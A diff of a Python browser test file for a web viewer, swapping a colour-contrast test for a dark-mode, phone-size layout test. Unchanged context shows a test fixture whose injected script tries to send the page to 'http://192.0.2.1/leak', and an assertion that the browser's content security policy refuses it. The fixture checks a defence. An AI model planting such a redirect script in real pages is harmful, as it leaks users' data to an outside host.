@@ -2,7 +2,6 @@
 
 import re
 import time
-from importlib.resources import files
 from pathlib import Path
 
 import pytest
@@ -24,31 +23,6 @@ for (const act of [
   () => {{ top.location = "http://192.0.2.1/leak"; }},
 ]) {{ try {{ act(); }} catch {{ }} }}
 </script>"""
-
-
-def luminance(colour):
-    """Relative luminance of `#rrggbb`, as WCAG 2.2 defines it."""
-    parts = [int(colour[place : place + 2], 16) / 255 for place in (1, 3, 5)]
-    red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
-    return 0.2126 * red + 0.7152 * green + 0.0722 * blue
-
-
-def contrast(one, other):
-    bright, dark = sorted((luminance(one), luminance(other)), reverse=True)
-    return (bright + 0.05) / (dark + 0.05)
-
-
-def test_texts_stand_out():
-    """At least 4.5 to 1 for texts, 3 to 1 for edges of controls (WCAG 2.2, 1.4.3 and 1.4.11)."""
-    style = files("itermask.apps.view").joinpath("assets", "page.css").read_text()
-    named = dict(re.findall(r"--(\w+): (#\w{6})", style.partition("}")[0]))
-    tones = re.findall(r"--tone: (#\w{6}); --tint: (#\w{6})", style)
-    assert len(tones) == 5
-    for tone, tint in tones:
-        assert min(contrast(tone, tint), contrast(tone, "#ffffff")) >= 4.5
-        assert min(contrast(named["ink"], tint), contrast(named["quiet"], tint)) >= 4.5
-    assert contrast(named["edge"], named["paper"]) >= 3
-    assert contrast(named["focus"], named["paper"]) >= 3
 
 
 def until(done):
@@ -184,3 +158,17 @@ def test_looking_and_rating(browser, out):
     elsewhere = [one for one in requests if not one.url.startswith((server.address, "data:", "blob:"))]
     assert {(one.url, one.failure) for one in elsewhere} <= {("http://192.0.2.1/leak", "csp")}, "refused in the browser"
     page.close()
+
+
+def test_dark_and_on_a_phone(browser, out):
+    server = ViewServer(out, port=0)
+    server.start()
+    page = browser.new_page(viewport={"width": 390, "height": 844}, color_scheme="dark")
+    page.goto(server.address)
+    page.locator("#list button").first.wait_for()
+    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(22, 27, 32)"
+    assert page.evaluate("document.documentElement.scrollWidth") == 390
+    sizes = "() => [...document.querySelectorAll('body *')].map((part) => parseFloat(getComputedStyle(part).fontSize))"
+    assert min(page.evaluate(sizes)) >= 11
+    page.close()
+    server.stop()
